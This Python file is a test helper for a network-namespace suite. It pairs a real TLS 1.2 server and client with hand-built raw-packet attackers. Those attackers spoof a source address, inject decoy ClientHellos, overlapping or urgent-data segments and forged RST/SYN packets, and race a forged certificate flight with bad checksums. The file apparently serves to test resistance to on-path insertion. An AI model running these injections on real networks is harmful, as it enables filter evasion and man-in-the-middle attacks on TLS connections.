#!/usr/bin/env python3
"""On-path insertion against a real TLS server, for tests/live/insertion.sh. Standard library only.

Run every command inside a network namespace the test created; every loop is bounded in count
and in time.

  serve   TLS 1.2 server (namespace A) with a real chain; for each connection it appends to --out
          one JSON line of what the host accepted: {"sni", "ok", "cert_sha256"}
  attack  a TLS 1.2 client whose TCP runs in userspace over AF_PACKET (namespace B), from --src,
          an address B does not own (A reaches it through a static neighbour entry; B's kernel
          drops what it gets for it without answering), so that it can send what an attacker on
          the path sends around the real segments (--mode: csum_hello, overlap, urgent,
          rst_csum, rst_window, syn, none). Prints one JSON line: {"sport", "done",
          "cert_sha256"}.
  flight  (namespace A, beside a serve --delay) waits for one connection's ClientHello and
          answers it first, with bad TCP checksums, by a server flight built with another
          certificate (--cert/--key), as a malicious server or an attacker next to it would
  client  a kernel TLS 1.2 client that verifies the chain (--ca); prints {"ok", "cert_sha256"}
"""
import argparse
import hashlib
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

SYN, FIN, RST, PSH, ACK, URG = 0x02, 0x01, 0x04, 0x08, 0x10, 0x20
MSS = 1400


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def cmd_serve(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    ctx.load_cert_chain(a.cert, a.key)
    with open(a.cert) as f:
        leaf = ssl.PEM_cert_to_DER_cert(f.read().split("-----END CERTIFICATE-----")[0] +
                                        "-----END CERTIFICATE-----\n")
    seen = {}
    ctx.sni_callback = lambda sock, name, c: seen.__setitem__("sni", name)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((a.addr, a.port))
    ls.listen(16)
    ls.settimeout(1)
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        try:
            c, _ = ls.accept()
        except socket.timeout:
            continue
        time.sleep(a.delay)  # room for `flight` to answer first
        seen.clear()
        ok = False
        c.settimeout(5)
        try:
            t = ctx.wrap_socket(c, server_side=True)
            t.recv(100)
            t.sendall(b"HTTP/1.0 200 OK\r\n\r\n")
            ok = True
            t.close()
        except (ssl.SSLError, OSError):
            c.close()
        with open(a.out, "a") as f:
            f.write(json.dumps({"sni": seen.get("sni"), "ok": ok,
                                "cert_sha256": hashlib.sha256(leaf).hexdigest()}) + "\n")
    return 0


class Tcp:
    """One connection's segments, built and parsed by hand."""

    def __init__(self, a):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.sock.bind((a.iface, 0))
        self.sock.settimeout(0.2)
        with open("/sys/class/net/%s/address" % a.iface) as f:
            self.src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
        self.dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
        self.src, self.dst = socket.inet_aton(a.src), socket.inet_aton(a.dst)
        self.sport, self.dport = a.sport, a.port
        self.isn = random.getrandbits(31) + 1000
        self.snd_nxt = self.isn
        self.rcv_nxt = 0

    def send(self, flags, payload=b"", seq=None, bad=False, urg=0):
        seq = self.snd_nxt if seq is None else seq
        ack = self.rcv_nxt if flags & ACK else 0
        tcp = struct.pack("!HHIIBBHHH", self.sport, self.dport, seq & 0xFFFFFFFF, ack,
                          5 << 4, flags, 65535, 0, urg) + payload
        c = csum(self.src + self.dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        if bad:
            c ^= 0x0F0F  # wrong, and not the offload pattern
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16),
                         0x4000, 64, 6, 0, self.src, self.dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.sock.send(self.dst_mac + self.src_mac + b"\x08\x00" + ip + tcp)
        time.sleep(0.005)  # keep the order on the wire the order sent

    def recv(self, secs):
        """The next segment to us: (flags, seq, ack, payload), or None after secs."""
        end = time.monotonic() + secs
        while time.monotonic() < end:
            try:
                fr = self.sock.recv(70000)
            except socket.timeout:
                continue
            ip = fr[14:]
            if len(ip) < 40 or ip[9] != 6 or ip[12:16] != self.dst or ip[16:20] != self.src:
                continue
            ihl = (ip[0] & 15) * 4
            t = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
            sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
            if sp != self.dport or dp != self.sport:
                continue
            return flags, seq, ack, t[(off >> 4) * 4:]
        return None


def attack_hello(tcp, mode, ch, sni):
    """Send the ClientHello as mode says; returns nothing (snd_nxt moves past it)."""
    base = tcp.snd_nxt
    k = ch.index(sni.encode())
    fake = ch.replace(sni.encode(), b"x" * len(sni))
    if mode == "csum_hello":
        tcp.send(ACK | PSH, fake, bad=True)
        tcp.send(ACK | PSH, ch)
    elif mode == "overlap":
        # A forged tail first, then the real bytes from a lower sequence number, then the head:
        # Linux keeps the lower start (tcp_data_queue_ofo).
        tcp.send(ACK | PSH, fake[k - 5:], seq=base + k - 5)
        tcp.send(ACK | PSH, ch[20:], seq=base + 20)
        tcp.send(ACK | PSH, ch[:20], seq=base)
    elif mode == "urgent":
        tcp.send(ACK | PSH | URG, ch[:k] + b"U" + ch[k:], urg=k + 1)
        tcp.snd_nxt += 1
    else:
        tcp.send(ACK | PSH, ch)
    tcp.snd_nxt = base + len(ch) + (1 if mode == "urgent" else 0)
    if mode == "rst_csum":
        tcp.send(RST | ACK, bad=True)
    elif mode == "rst_window":
        tcp.send(RST | ACK, seq=tcp.snd_nxt - 100000)
    elif mode == "syn":
        tcp.send(SYN, seq=tcp.isn + 7777777)


def cmd_attack(a):
    tcp = Tcp(a)
    cctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    cctx.check_hostname = False
    cctx.verify_mode = ssl.CERT_NONE
    cctx.maximum_version = ssl.TLSVersion.TLSv1_2
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = cctx.wrap_bio(inc, out, server_hostname=a.sni)
    result = {"sport": a.sport, "done": False, "cert_sha256": None}
    tcp.send(SYN)
    tcp.snd_nxt += 1
    seg = tcp.recv(3)
    if not seg or seg[0] & (SYN | ACK) != (SYN | ACK):
        print(json.dumps(result))
        return 1
    tcp.rcv_nxt = (seg[1] + 1) & 0xFFFFFFFF
    tcp.send(ACK)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    attack_hello(tcp, a.mode, out.read(), a.sni)
    end = time.monotonic() + a.max_secs
    sent_req = False
    while time.monotonic() < end:
        seg = tcp.recv(0.5)
        if seg is None:
            continue
        flags, seq, _, data = seg
        if data and seq == tcp.rcv_nxt:
            tcp.rcv_nxt = (tcp.rcv_nxt + len(data)) & 0xFFFFFFFF
            inc.write(data)
        if data or flags & FIN:
            if flags & FIN:
                tcp.rcv_nxt = (tcp.rcv_nxt + 1) & 0xFFFFFFFF
            tcp.send(ACK)
        if flags & (FIN | RST):
            break
        try:
            if not result["done"]:
                tls.do_handshake()
                result["done"] = True
                der = tls.getpeercert(binary_form=True)
                result["cert_sha256"] = hashlib.sha256(der).hexdigest()
            if not sent_req:
                tls.write(b"GET / HTTP/1.0\r\n\r\n")
                sent_req = True
            tls.read(1000)
        except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
            pass
        except ssl.SSLError:
            break
        pending = out.read()
        for i in range(0, len(pending), MSS):
            tcp.send(ACK | PSH, pending[i:i + MSS])
            tcp.snd_nxt += len(pending[i:i + MSS])
    tcp.send(FIN | ACK)
    print(json.dumps(result))
    return 0 if result["done"] else 1


def cmd_flight(a):
    """Sniff the ClientHello to --port on --iface, answer it with a forged flight, bad checksums."""
    sctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    sctx.maximum_version = ssl.TLSVersion.TLSv1_2
    sctx.set_ciphers("DEFAULT:@SECLEVEL=0")
    sctx.load_cert_chain(a.cert, a.key)
    # ETH_P_ALL: only those taps see the frames this host sends (the SYN-ACK)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sock.bind((a.iface, 0))
    sock.settimeout(0.2)
    end = time.monotonic() + a.max_secs
    synack = None
    while time.monotonic() < end:
        try:
            fr, addr = sock.recvfrom(70000)
        except socket.timeout:
            continue
        ip = fr[14:]
        if fr[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6:
            continue
        ihl = (ip[0] & 15) * 4
        t = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
        sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
        data = t[(off >> 4) * 4:]
        if sp == a.port and flags & (SYN | ACK) == SYN | ACK:
            synack = (fr[:6], fr[6:12], ip[12:16], ip[16:20], sp, dp, seq)
        elif synack and dp == a.port and sp == synack[5] and data[:1] == b"\x16":
            dmac, smac, src, dst, sport, dport, sseq = synack
            inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
            srv = sctx.wrap_bio(inc, out, server_side=True)
            inc.write(data)
            try:
                srv.do_handshake()
            except ssl.SSLWantReadError:
                pass
            fake = out.read()
            for i in range(0, len(fake), MSS):
                part = fake[i:i + MSS]
                tcp = struct.pack("!HHIIBBHHH", sport, dport, (sseq + 1 + i) & 0xFFFFFFFF,
                                  (seq + len(data)) & 0xFFFFFFFF, 5 << 4, ACK | PSH, 65535, 0,
                                  0) + part
                c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp) ^ 0x0F0F
                tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
                iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64, 6, 0,
                                  src, dst)
                iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
                # to the client: its MAC is where the SYN-ACK went
                sock.send(dmac + smac + b"\x08\x00" + iph + tcp)
            print(json.dumps({"forged_bytes": len(fake)}))
            return 0
    print(json.dumps({"forged_bytes": 0}))
    return 1


def cmd_client(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    ctx.load_verify_locations(a.ca)
    res = {"ok": False, "cert_sha256": None}
    try:
        with socket.create_connection((a.dst, a.port), timeout=5) as s:
            with ctx.wrap_socket(s, server_hostname=a.sni) as t:
                res["cert_sha256"] = hashlib.sha256(t.getpeercert(binary_form=True)).hexdigest()
                t.sendall(b"GET / HTTP/1.0\r\n\r\n")
                t.recv(100)
                res["ok"] = True
    except (ssl.SSLError, OSError) as e:
        res["error"] = str(e)
    print(json.dumps(res))
    return 0 if res["ok"] else 1


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--addr", required=True)
    s.add_argument("--port", type=int, default=443)
    s.add_argument("--cert", required=True)
    s.add_argument("--key", required=True)
    s.add_argument("--out", required=True)
    s.add_argument("--duration", type=float, default=120)
    s.add_argument("--delay", type=float, default=0)
    f = sub.add_parser("flight")
    f.add_argument("--iface", default="veth0")
    f.add_argument("--port", type=int, default=443)
    f.add_argument("--cert", required=True)
    f.add_argument("--key", required=True)
    f.add_argument("--max-secs", type=float, default=10)
    c = sub.add_parser("client")
    c.add_argument("--dst", required=True)
    c.add_argument("--port", type=int, default=443)
    c.add_argument("--sni", required=True)
    c.add_argument("--ca", required=True)
    t = sub.add_parser("attack")
    t.add_argument("--iface", default="veth0")
    t.add_argument("--src", required=True)
    t.add_argument("--dst", required=True)
    t.add_argument("--dst-mac", required=True)
    t.add_argument("--port", type=int, default=443)
    t.add_argument("--sport", type=int, required=True)
    t.add_argument("--sni", required=True)
    t.add_argument("--mode", default="none")
    t.add_argument("--max-secs", type=float, default=8)
    a = p.parse_args()
    sys.exit({"serve": cmd_serve, "attack": cmd_attack, "flight": cmd_flight,
              "client": cmd_client}[a.cmd](a))


if __name__ == "__main__":
    main()
